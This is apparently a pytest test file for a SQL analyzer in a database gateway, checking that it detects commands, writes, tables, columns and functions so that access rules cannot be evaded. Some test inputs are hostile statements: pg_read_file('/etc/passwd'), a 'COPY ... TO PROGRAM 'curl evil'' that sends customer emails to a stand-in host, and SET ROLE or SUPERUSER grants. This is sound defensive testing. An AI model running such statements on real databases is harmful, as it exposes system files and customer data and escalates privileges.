"""The SQL analyzer over a broad corpus: what rules read must be right, and where it cannot be
exact it must over-approximate (fail closed)."""

from __future__ import annotations

import pytest

from pooler.sql.analyzer import AnalysisError, analyze


def one(sql, search_path=("public",)):
    facts = analyze(sql, search_path)
    assert len(facts) == 1, facts
    return facts[0]


@pytest.mark.parametrize("sql,command", [
    ("SELECT 1", "SELECT"),
    ("values (1), (2)", "SELECT"),
    ("TABLE customers", "SELECT"),
    ("INSERT INTO t VALUES (1)", "INSERT"),
    ("UPDATE t SET a = 1 WHERE id = 2", "UPDATE"),
    ("DELETE FROM t", "DELETE"),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "MERGE"),
    ("COPY t TO STDOUT", "COPY"),
    ("SET statement_timeout = 0", "SET"),
    ("SET LOCAL search_path TO DEFAULT", "SET"),
    ("RESET ALL", "RESET"),
    ("SHOW search_path", "SHOW"),
    ("BEGIN", "BEGIN"),
    ("START TRANSACTION READ ONLY", "START TRANSACTION"),
    ("COMMIT", "COMMIT"),
    ("ROLLBACK TO SAVEPOINT s", "ROLLBACK"),
    ("DO $$ BEGIN PERFORM 1; END $$", "DO"),
    ("CALL p(1)", "CALL"),
    ("DROP TABLE orders", "DROP TABLE"),
    ("DROP MATERIALIZED VIEW mv", "DROP MATERIALIZED VIEW"),
    ("DROP FUNCTION f()", "DROP FUNCTION"),
    ("CREATE TABLE x (a int)", "CREATE TABLE"),
    ("CREATE INDEX ON orders (status)", "CREATE INDEX"),
    ("CREATE VIEW v AS SELECT 1", "CREATE VIEW"),
    ("CREATE MATERIALIZED VIEW v AS SELECT 1", "CREATE MATERIALIZED VIEW"),
    ("CREATE TABLE x AS SELECT 1", "CREATE TABLE AS"),
    ("SELECT 1 INTO y", "SELECT INTO"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", "CREATE FUNCTION"),
    ("CREATE PROCEDURE p() LANGUAGE sql AS $$ select 1 $$", "CREATE PROCEDURE"),
    ("ALTER TABLE t ADD COLUMN b int", "ALTER TABLE"),
    ("ALTER TABLE t RENAME TO u", "ALTER TABLE"),
    ("ALTER TABLE t RENAME COLUMN a TO b", "ALTER TABLE"),
    ("ALTER TABLE t OWNER TO x", "ALTER TABLE"),
    ("ALTER TABLE t SET SCHEMA s", "ALTER TABLE"),
    ("TRUNCATE t", "TRUNCATE TABLE"),
    ("GRANT SELECT ON t TO x", "GRANT"),
    ("REVOKE ALL ON t FROM x", "REVOKE"),
    ("GRANT admins TO x", "GRANT ROLE"),
    ("CREATE ROLE x LOGIN", "CREATE ROLE"),
    ("ALTER ROLE x SUPERUSER", "ALTER ROLE"),
    ("ALTER USER x SET search_path = a", "ALTER ROLE"),
    ("DROP ROLE x", "DROP ROLE"),
    ("ALTER SYSTEM SET work_mem = '1GB'", "ALTER SYSTEM"),
    ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO x", "ALTER DEFAULT PRIVILEGES"),
    ("CREATE EXTENSION dblink", "CREATE EXTENSION"),
    ("CREATE SCHEMA s", "CREATE SCHEMA"),
    ("CREATE DATABASE d", "CREATE DATABASE"),
    ("CREATE AGGREGATE a (int) (sfunc = int4pl, stype = int)", "CREATE AGGREGATE"),
    ("COMMENT ON TABLE t IS 'x'", "COMMENT"),
    ("VACUUM t", "VACUUM"),
    ("ANALYZE t", "ANALYZE"),
    ("EXPLAIN SELECT 1", "EXPLAIN"),
    ("PREPARE p AS SELECT 1", "PREPARE"),
    ("EXECUTE p", "EXECUTE"),
    ("DEALLOCATE p", "DEALLOCATE"),
    ("DEALLOCATE ALL", "DEALLOCATE ALL"),
    ("DISCARD ALL", "DISCARD ALL"),
    ("DISCARD PLANS", "DISCARD PLANS"),
    ("LISTEN chan", "LISTEN"),
    ("NOTIFY chan", "NOTIFY"),
    ("LOCK TABLE t", "LOCK TABLE"),
    ("DECLARE c CURSOR FOR SELECT 1", "DECLARE CURSOR"),
    ("FETCH 10 FROM c", "FETCH"),
    ("MOVE 10 IN c", "MOVE"),
    ("CLOSE c", "CLOSE CURSOR"),
    ("CHECKPOINT", "CHECKPOINT"),
    ("REFRESH MATERIALIZED VIEW mv", "REFRESH MATERIALIZED VIEW"),
    ("CREATE TRIGGER tr AFTER INSERT ON t EXECUTE FUNCTION f()", "CREATE TRIGGER"),
    ("IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO public", "IMPORT FOREIGN SCHEMA"),
    ("CREATE TRANSFORM FOR int LANGUAGE plpython3u (FROM SQL WITH FUNCTION f(internal))", "CREATE TRANSFORM"),
])
def test_command_tags(sql, command):
    assert one(sql).command == command


@pytest.mark.parametrize("sql,read_only", [
    ("SELECT * FROM orders", True),
    ("SELECT * FROM orders FOR UPDATE", False),
    ("SELECT * FROM orders FOR SHARE SKIP LOCKED", False),
    ("WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT count(*) FROM d", False),
    ("WITH x AS (SELECT 1) SELECT * FROM x", True),
    ("SELECT nextval('s')", False),
    ("SELECT set_config('work_mem', '1MB', false)", True),
    ("EXPLAIN UPDATE orders SET status = 'x'", True),
    ("EXPLAIN ANALYZE UPDATE orders SET status = 'x'", False),
    ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM orders", False),
    ("EXPLAIN (ANALYZE false) DELETE FROM orders", True),
    ("EXPLAIN ANALYZE SELECT 1", True),
    ("COPY orders TO STDOUT", True),
    ("COPY (SELECT * FROM orders) TO STDOUT WITH (FORMAT csv)", True),
    ("COPY orders FROM STDIN", False),
    ("COPY orders TO '/tmp/x'", False),
    ("SET work_mem = '1MB'", True),
    ("SHOW work_mem", True),
    ("SELECT 1 INTO t2", False),
    ("INSERT INTO t VALUES (1)", False),
    ("CALL p()", False),
    ("DO $$ BEGIN END $$", False),
    ("DECLARE c CURSOR FOR SELECT * FROM orders", True),
    ("PREPARE p AS DELETE FROM orders", True),
    ("PREPARE p AS SELECT 1", True),
    ("LISTEN x", True),
    ("BEGIN", True),
    ("COMMIT", True),
    ("SAVEPOINT a", True),
    ("EXECUTE p", True),
    ("EXECUTE p(nextval('s'))", False),
    ("EXPLAIN ANALYZE EXECUTE p", False),
    ("LOCK TABLE orders", False),
    ("NOTIFY x", False),
    ("SELECT pg_notify('x', 'y')", False),
    ("SELECT pg_advisory_lock(1)", False),
    ("SELECT 1 UNION SELECT 2 FOR UPDATE", False),
    ("CREATE TABLE z (a int)", False),
])
def test_read_only(sql, read_only):
    assert one(sql).read_only is read_only


def test_tables_are_schema_qualified_and_ctes_excluded():
    f = one("WITH recent AS (SELECT * FROM orders WHERE placed_at > now() - interval '1 day') "
            "SELECT r.id, c.email FROM recent r JOIN shop.customers c ON c.id = r.customer_id")
    assert f.tables == ("public.orders", "shop.customers")
    assert "public.recent" not in f.tables


def test_search_path_resolves_unqualified_tables():
    assert one("SELECT * FROM orders", ("sales",)).tables == ("sales.orders",)
    # without the catalog the gateway cannot know which schema of the path holds the table:
    # every candidate is listed (and its columns), so masks and denials cannot be dodged
    f = one("SELECT email FROM customers", ("sales", "public"))
    assert f.tables == ("sales.customers", "public.customers")
    assert "public.customers.email" in f.columns
    assert one("UPDATE orders SET a = 1", ("sales", "public")).tables_written == ("sales.orders", "public.orders")
    assert one("SELECT * FROM pg_class").tables[0] == "pg_catalog.pg_class"
    assert one("SELECT * FROM information_schema.tables").tables == ("information_schema.tables",)


def test_a_cte_does_not_hide_the_table_of_the_same_name_inside_itself():
    f = one("WITH customers AS (SELECT email FROM customers) SELECT * FROM customers")
    assert f.tables == ("public.customers",)
    assert "public.customers.email" in f.columns


def test_recursive_cte_name_is_not_a_table():
    f = one("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r")
    assert f.tables == ()


def test_nested_ctes_and_subqueries():
    f = one("""
        WITH a AS (WITH b AS (SELECT id, email FROM customers) SELECT * FROM b),
             c AS (SELECT * FROM a WHERE id IN (SELECT customer_id FROM orders
                                                 WHERE total > (SELECT avg(total) FROM orders)))
        SELECT x.email FROM (SELECT * FROM c) AS x
    """)
    assert set(f.tables) == {"public.customers", "public.orders"}
    assert "public.customers.email" in f.columns
    assert "public.orders.customer_id" in f.columns
    assert set(f.functions) == {"avg"}


def test_write_targets():
    f = one("UPDATE orders o SET status = 'x' FROM customers c WHERE o.customer_id = c.id")
    assert f.tables_written == ("public.orders",)
    assert set(f.tables) == {"public.orders", "public.customers"}
    assert "public.orders.status" in f.columns
    assert one("INSERT INTO audit.log (msg) SELECT email FROM customers").tables_written == ("audit.log",)
    assert one("DELETE FROM orders USING customers c WHERE c.id = 1").tables_written == ("public.orders",)
    assert one("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a").tables_written == ("public.t",)
    assert one("COPY orders FROM STDIN").tables_written == ("public.orders",)
    assert one("TRUNCATE a, b").tables_written == ("public.a", "public.b")
    assert one("DROP TABLE a, s.b").tables_written == ("public.a", "s.b")
    assert one("CREATE TABLE x AS SELECT * FROM orders").tables_written == ("public.x",)
    assert one("SELECT * INTO x FROM orders").tables_written == ("public.x",)
    assert one("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d").tables_written == ("public.orders",)


def test_has_where():
    assert one("UPDATE t SET a = 1").has_where is False
    assert one("UPDATE t SET a = 1 WHERE id = 1").has_where is True
    assert one("DELETE FROM t").has_where is False
    assert one("DELETE FROM t WHERE CURRENT OF c").has_where is True
    assert one("SELECT 1").has_where is None


def test_columns_resolve_aliases():
    f = one("SELECT c.email, o.total FROM customers AS c JOIN orders o ON o.customer_id = c.id")
    assert set(f.columns) == {"public.customers.email", "public.orders.total", "public.orders.customer_id",
                              "public.customers.id"}


def test_unqualified_columns_are_attributed_to_every_table_in_scope():
    f = one("SELECT email FROM customers JOIN orders ON true")
    assert {"public.customers.email", "public.orders.email"} <= set(f.columns)


def test_correlated_subquery_sees_outer_tables():
    f = one("SELECT (SELECT email FROM orders o WHERE o.customer_id = c.id) FROM customers c")
    assert "public.customers.email" in f.columns


@pytest.mark.parametrize("sql", [
    "SELECT * FROM customers",
    "TABLE customers",
    "SELECT c.* FROM customers c",
    "SELECT c FROM customers c",
    "SELECT row_to_json(c) FROM customers c",
    "SELECT json_agg(customers) FROM customers",
    "SELECT * FROM orders JOIN customers ON true",
    "COPY customers TO STDOUT",
    "INSERT INTO customers SELECT * FROM customers RETURNING *",
])
def test_whole_row_references(sql):
    assert "public.customers.*" in one(sql).columns


def test_star_over_a_subquery_comes_from_the_subquery():
    f = one("SELECT * FROM (SELECT email AS e FROM customers) s")
    assert "public.customers.email" in f.columns


def test_functions_in_every_position():
    sqls = [
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT * FROM pg_read_file('/etc/passwd')",
        "SELECT 1 WHERE pg_read_file('/etc/passwd') IS NOT NULL",
        "SELECT 1 ORDER BY pg_read_file('/etc/passwd')",
        "SELECT count(*) FILTER (WHERE pg_read_file('x') > '') FROM orders",
        "SELECT 1 FROM orders GROUP BY 1 HAVING pg_read_file('x') > ''",
        "SELECT * FROM orders o, LATERAL (SELECT pg_read_file(o.note)) x",
        "INSERT INTO t VALUES (pg_read_file('x'))",
        "UPDATE t SET a = pg_read_file('x')",
        "DELETE FROM t WHERE a = pg_read_file('x')",
        "WITH x AS (SELECT pg_read_file('x')) SELECT * FROM x",
        "SELECT CASE WHEN true THEN pg_read_file('x') END",
        "SELECT ARRAY[pg_read_file('x')]",
        "SELECT pg_catalog.pg_read_file('x')",
        "EXPLAIN ANALYZE SELECT pg_read_file('x')",
        "PREPARE p AS SELECT pg_read_file('x')",
        "EXECUTE p(pg_read_file('x'))",
        "COPY (SELECT pg_read_file('x')) TO STDOUT",
        "CALL pg_read_file('x')",
        "CREATE TABLE t (a text DEFAULT pg_read_file('x'))",
        "DECLARE c CURSOR FOR SELECT pg_read_file('x')",
        "SELECT 1 UNION SELECT length(pg_read_file('x'))",
        "VALUES (pg_read_file('x'))",
        "SELECT * FROM orders WHERE EXISTS (SELECT pg_read_file('x'))",
    ]
    for sql in sqls:
        assert "pg_read_file" in one(sql).functions, sql


def test_function_names_are_case_folded_and_qualified():
    f = one('SELECT PG_READ_FILE(\'x\'), "Upper"(\'y\'), public.myfn()')
    assert f.functions == ("pg_read_file", "Upper", "myfn")
    assert f.functions_qualified == ("pg_catalog.pg_read_file", "Upper", "public.myfn")


def test_set_and_guc_writes():
    f = one("SET ROLE postgres")
    assert (f.set_name, f.set_value, f.guc_writes) == ("role", "postgres", ("role",))
    assert one("SET SESSION AUTHORIZATION postgres").guc_writes == ("session_authorization",)
    assert one("RESET ROLE").guc_writes == ("role",)
    assert one("SELECT set_config('role', 'postgres', false)").guc_writes == ("role",)
    assert one("SELECT set_config('ROLE', 'postgres', false)").guc_writes == ("role",)
    assert one("SELECT set_config($1, 'postgres', false)").guc_writes == ("?",)
    assert one("SELECT set_config(lower('ROLE'), 'x', false)").guc_writes == ("?",)
    f = one('SET search_path = sales, "My Schema", public')
    assert (f.set_name, f.set_value) == ("search_path", 'sales, "My Schema", public')
    assert one("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE").guc_writes == ()
    assert one("SET TIME ZONE 'UTC'").set_name == "timezone"


def test_copy_facts():
    c = one("COPY customers (email) TO PROGRAM 'curl evil'").copy
    assert c == {"direction": "to", "program": True, "stdio": False, "filename": "curl evil", "query": False}
    assert one("COPY t FROM PROGRAM 'x'").copy["program"] is True
    assert one("COPY t FROM '/etc/passwd'").copy["stdio"] is False
    c = one("COPY (SELECT email FROM customers) TO STDOUT").copy
    assert c["query"] is True and c["stdio"] is True
    assert "public.customers.email" in one("COPY customers (email) TO STDOUT").columns


def test_prepare_and_execute():
    f = one("PREPARE q (int) AS SELECT email FROM customers WHERE id = $1")
    assert f.prepared_name == "q"
    assert f.inner.command == "SELECT"
    assert f.inner.sql == "SELECT email FROM customers WHERE id = $1"
    assert "public.customers.email" in f.columns
    e = one("EXECUTE q(42, 'x')")
    assert (e.prepared_name, e.params) == ("q", ("42", "x"))


def test_explain_folds_the_inner_statement():
    f = one("EXPLAIN ANALYZE DELETE FROM orders")
    assert f.explain_analyze and f.inner.command == "DELETE"
    assert f.tables_written == ("public.orders",)


def test_multi_statement_text_is_split_per_statement():
    facts = analyze("SELECT 'é' AS a; /* c */ UPDATE t SET a = 1;\n DELETE FROM u")
    assert [f.command for f in facts] == ["SELECT", "UPDATE", "DELETE"]
    assert facts[0].sql == "SELECT 'é' AS a"
    assert facts[1].sql == "UPDATE t SET a = 1"
    assert facts[2].sql == "DELETE FROM u"


def test_comments_dollar_quoting_and_identifiers():
    f = one("-- DROP TABLE x\nSELECT $q$ DROP TABLE y; $q$ /* DELETE FROM z */ FROM \"Weird \"\"Name\"\"\"")
    assert f.command == "SELECT"
    assert f.tables == ('public.Weird "Name"',)
    assert one('SELECT * FROM U&"d\\0061t"').tables == ("public.dat",)
    assert one("SELECT * FROM ORDERS").tables == ("public.orders",)


def test_empty_and_comment_only_input():
    assert analyze("") == []
    assert analyze("  -- nothing\n") == []


def test_syntax_errors_raise_with_a_position():
    with pytest.raises(AnalysisError) as e:
        analyze("SELEC 1")
    assert "syntax error" in e.value.message and e.value.position == 1
    with pytest.raises(AnalysisError):
        analyze("SELECT (")


def test_to_dict_is_json_ready():
    import orjson

    d = one("PREPARE p AS SELECT 1").to_dict()
    assert orjson.loads(orjson.dumps(d))["inner"]["command"] == "SELECT"
